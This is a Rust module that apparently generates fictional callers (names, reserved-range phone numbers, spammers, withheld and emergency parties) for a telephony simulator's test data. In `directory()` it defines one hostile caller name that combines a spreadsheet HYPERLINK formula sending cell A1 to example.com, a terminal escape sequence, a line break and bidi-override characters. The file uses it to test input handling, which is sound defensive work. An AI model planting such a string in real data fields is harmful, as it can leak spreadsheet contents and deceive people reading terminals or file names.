//! The people outside: repeat callers, countries, withheld numbers, spammers, and one caller with a hostile name.
//!
//! Numbers come from ranges set aside for fiction: 555-0100 to 555-0199 in North America, and the ranges of Ofcom (UK), ACMA
//! (Australia), `ComReg` (Ireland), ARCEP (France) and the Bundesnetzagentur (Germany).

use std::sync::Arc;

use super::dice::Dice;
use super::party::Party;
use super::words::NumberType;

/// Everybody outside, most frequent caller first.
#[derive(Clone, Debug)]
pub(super) struct Outsiders {
    people: Vec<Arc<Party>>,
    spammers: Vec<Arc<Party>>,
    withheld: Arc<Party>,
    hostile: Arc<Party>,
    emergency: Arc<Party>,
}

impl Outsiders {
    /// Somebody; the first few hundred make up most calls, as a Zipf law has it.
    pub fn any(&self, dice: &mut Dice) -> Arc<Party> {
        if dice.one_in(1500) {
            return Arc::clone(&self.hostile);
        }
        Arc::clone(self.people.get(dice.rank(self.people.len())).unwrap_or(&self.hostile))
    }

    /// Somebody the phone company warns of.
    pub fn spammer(&self, dice: &mut Dice) -> Arc<Party> {
        Arc::clone(dice.pick(&self.spammers).unwrap_or(&self.hostile))
    }

    /// A caller who withheld the number.
    pub fn withheld(&self) -> Arc<Party> {
        Arc::clone(&self.withheld)
    }

    /// The emergency number.
    pub fn emergency(&self) -> Arc<Party> {
        Arc::clone(&self.emergency)
    }
}

/// Area codes of the United States; each has a hundred numbers for fiction.
const US: [u32; 24] = [
    212, 303, 312, 404, 415, 503, 512, 602, 612, 617, 702, 713, 801, 206, 305, 313, 314, 412, 504, 614, 615, 704, 816,
    919,
];

/// Area codes of Canada.
const CANADA: [u32; 4] = [604, 416, 514, 902];

const FIRST: [&str; 40] = [
    "Alma", "Ben", "Carla", "Dev", "Edith", "Finn", "Gwen", "Hal", "Ivy", "Jonas", "Kira", "Liam", "Mona", "Niall",
    "Olga", "Pedro", "Quentin", "Rita", "Saul", "Tilda", "Ursula", "Vik", "Wanda", "Xavi", "Yara", "Zeno", "Bela",
    "Cleo", "Dora", "Emil", "Fay", "Gil", "Hedda", "Imre", "Jody", "Karl", "Lotte", "Max", "Nell", "Otto",
];

const LAST: [&str; 41] = [
    "Archer", "Bloom", "Carver", "Dunne", "Eastman", "Farrow", "Grove", "Harker", "Ingram", "Jessop", "Kerr", "Locke",
    "Moss", "North", "Oakes", "Penrose", "Quigley", "Rook", "Sayer", "Thorne", "Upton", "Vale", "Weller", "Yardley",
    "Zeller", "Ashdown", "Birch", "Crane", "Dale", "Ember", "Flint", "Gale", "Heath", "Isley", "Juniper", "Kestrel",
    "Larch", "Mercer", "Nettle", "Orchard", "Pike",
];

/// Names as people outside write them themselves, in their own scripts.
const IN_OWN_SCRIPT: [&str; 8] =
    ["Zoë Brontë", "Łukasz Żak", "佐藤 健", "Σοφία Παππά", "Ольга Зима", "محمد الكاتب", "이수민", "Jürgen Groß 🏮"];

/// All of them. The same for every seed: only who calls when is seeded.
pub(super) fn directory() -> Outsiders {
    let domestic = US.into_iter().flat_map(|area| (100..200).map(move |line| (area, line)));
    let mut people: Vec<Arc<Party>> = domestic
        .enumerate()
        .map(|(place, (area, line))| {
            let mut party = person(name(place), format!("+1{area}555{line:04}"), "US", "1");
            // Some stand in the company's address book.
            if place % 23 == 4 {
                party.number_type = NumberType::ExternalContact;
            }
            Arc::new(party)
        })
        .collect();
    let abroad = abroad();
    // A foreign caller now and then: one in thirteen places, from the front on.
    for (place, party) in abroad.into_iter().enumerate() {
        people.insert(7 + place * 13, Arc::new(party));
    }
    let spammers = (0..30_u32).map(|line| {
        let name = if line % 3 == 0 { "" } else { "LANTERN WARRANTY DEPT" };
        let mut party = person(name.to_owned(), format!("+1786555{:04}", 100 + line), "US", "1");
        party.spam = Some(if line % 4 == 0 { "Spam" } else { "Maybe Spam" });
        Arc::new(party)
    });
    let mut withheld = person("Anonymous".to_owned(), String::new(), "", "");
    withheld.number_type = NumberType::Anonymous;
    let mut emergency = person("Emergency".to_owned(), "933".to_owned(), "US", "1");
    emergency.number_type = NumberType::Service;
    // A formula, a terminal escape, a line break, and characters that turn the reading direction round.
    let hostile = "=HYPERLINK(\"http://example.com/?\"&A1,\"refund\")\u{1b}]0;owned\u{7}\r\n\u{202e}gpj.elif\u{2066}";
    Outsiders {
        spammers: spammers.collect(),
        withheld: Arc::new(withheld),
        hostile: Arc::new(person(hostile.to_owned(), "+17865550199".to_owned(), "US", "1")),
        emergency: Arc::new(emergency),
        people,
    }
}

/// People in Canada and overseas.
fn abroad() -> Vec<Party> {
    let canada =
        CANADA.into_iter().flat_map(|area| (100..110).map(move |line| (format!("+1{area}555{line:04}"), "CA", "1")));
    let overseas = (0..12_u32).flat_map(|n| {
        [
            (format!("+4420794602{n:02}"), "GB", "44"),
            (format!("+4477009001{n:02}"), "GB", "44"),
            (format!("+6125550{:04}", 100 + n), "AU", "61"),
            (format!("+3532091{:05}", 30 + n), "IE", "353"),
            (format!("+331990012{n:02}"), "FR", "33"),
            (format!("+493023125{n:03}"), "DE", "49"),
        ]
    });
    let numbers = canada.chain(overseas).enumerate();
    numbers.map(|(place, (number, iso, code))| person(name(place + 3), number, iso, code)).collect()
}

/// A name as it arrives: mostly capitals from the phone network, sometimes none, sometimes as its owner writes it.
fn name(place: usize) -> String {
    let first = FIRST.get(place % FIRST.len()).copied().unwrap_or_default();
    let last = LAST.get(place % LAST.len()).copied().unwrap_or_default();
    match place % 10 {
        0 => String::new(),
        1 => IN_OWN_SCRIPT.get(place / 10 % IN_OWN_SCRIPT.len()).copied().unwrap_or_default().to_owned(),
        2 => "WIRELESS CALLER".to_owned(),
        3..=6 => format!("{first} {last}").to_uppercase(),
        _ => format!("{first} {last}"),
    }
}

fn person(name: String, did_number: String, country_iso_code: &'static str, country_code: &'static str) -> Party {
    Party {
        name,
        email: String::new(),
        did_number,
        number_type: NumberType::ExternalPstn,
        country_iso_code,
        country_code,
        spam: None,
        extension: None,
    }
}
